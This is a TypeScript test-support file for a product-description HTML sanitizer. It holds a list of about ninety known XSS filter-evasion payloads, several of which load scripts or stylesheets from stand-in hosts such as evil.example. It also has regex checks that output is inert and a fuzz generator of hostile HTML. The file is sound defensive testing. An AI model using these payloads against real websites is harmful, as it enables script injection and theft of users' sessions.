import { expect } from 'vitest';
import fc from 'fast-check';

/**
 * The attack corpus for product descriptions. The server's sanitizer
 * (`server/src/catalog/description-html.test.ts`) and the browser's
 * (`web-common/src/sanitize.test.ts`) both run it.
 */

/**
 * Known XSS vectors (OWASP filter-evasion cheat sheet, html5sec.org, PortSwigger's list):
 * none may leave anything executable behind.
 */
export const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script>alert(1)',
  '<script/xss src="http://x/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>document.write("<img src=x onerror=alert(1)>")</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src="x"onerror="alert(1)">',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=`x`onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img alt="a>b" src="x" onerror="alert(1)">',
  '<img alt="<script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="http://ok.example/" onclick="alert(1)">x</a>',
  '<a href="http://ok.example/"onmouseover="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC="http://evil.example/"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="color: red; background-image: url(\'javascript:alert(1)\')">x</p>',
  '<p style="color:\\72 ed">x</p>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<p <script>alert(1)</script>>x</p>',
  '<p title="x" <img src=x onerror=alert(1)>',
  '<b><i><u><script>alert(1)</script></b>',
  '<table><tr><td><script>alert(1)</script></td></tr></table>',
  '<a href="http://ok.example/"><img src=x onerror=alert(1)></a>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<span onmouseover="alert(1)" style="color:red">x</span>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<a href="https://ok.example/" style="x:expression(alert(1))">x</a>',
  '<scri\0pt>alert(1)</script>',
  '<img src\0=x onerror=alert(1)>',
];

/** What must never appear in the output, whatever the input. */
export function assertInert(html: string): void {
  expect(html).not.toMatch(
    /<\s*\/?\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|body|template|noscript|textarea|xmp|plaintext)\b/i,
  );
  expect(html).not.toMatch(/<[!?]/);
  // inside tags (text may say anything: it is escaped)
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i); // an event handler
    expect(tag).not.toMatch(/(javascript|vbscript)\s*:/i);
    expect(tag).not.toMatch(/expression\s*\(|url\s*\(/i);
    expect(tag).not.toMatch(/data:(?!image\/(png|jpeg|webp|gif);base64,)/i);
    expect(tag).toMatch(/^<\/?[a-z0-9]+(\s[a-z]+="[^"<>]*")*>$/);
  }
  // every tag in the output is one of the allowed ones
  for (const m of html.matchAll(/<\/?([a-z0-9]+)/gi)) {
    expect([
      'p',
      'br',
      'strong',
      'em',
      'b',
      'i',
      'u',
      'h1',
      'h2',
      'h3',
      'h4',
      'ul',
      'ol',
      'li',
      'span',
      'blockquote',
      'img',
      'a',
      'table',
      'caption',
      'colgroup',
      'col',
      'thead',
      'tbody',
      'tfoot',
      'tr',
      'th',
      'td',
    ]).toContain(m[1]);
  }
}

const pieces = fc.constantFrom(
  '<',
  '>',
  '/',
  '"',
  "'",
  '=',
  ' ',
  '\t',
  '&',
  '#',
  ';',
  ':',
  '<!--',
  '-->',
  '<script>',
  '</script>',
  '<svg',
  '<img',
  'src=',
  'href=',
  'onerror=',
  'javascript',
  'jav&#x09;ascript:',
  '&#106;',
  '<a ',
  '</a>',
  '<p>',
  '</p>',
  '<style>',
  'x',
  'alert(1)',
  '<iframe',
  'url(',
  'style=',
  'expression(',
  '<math>',
  '<table>',
  '<td>',
  '<!',
  '<?',
  '</',
  'data:text/html,',
);
/** Arbitrary HTML-ish input built from the pieces attacks are made of. */
export const hostileHtml = fc.array(pieces, { maxLength: 40 }).map((a) => a.join(''));
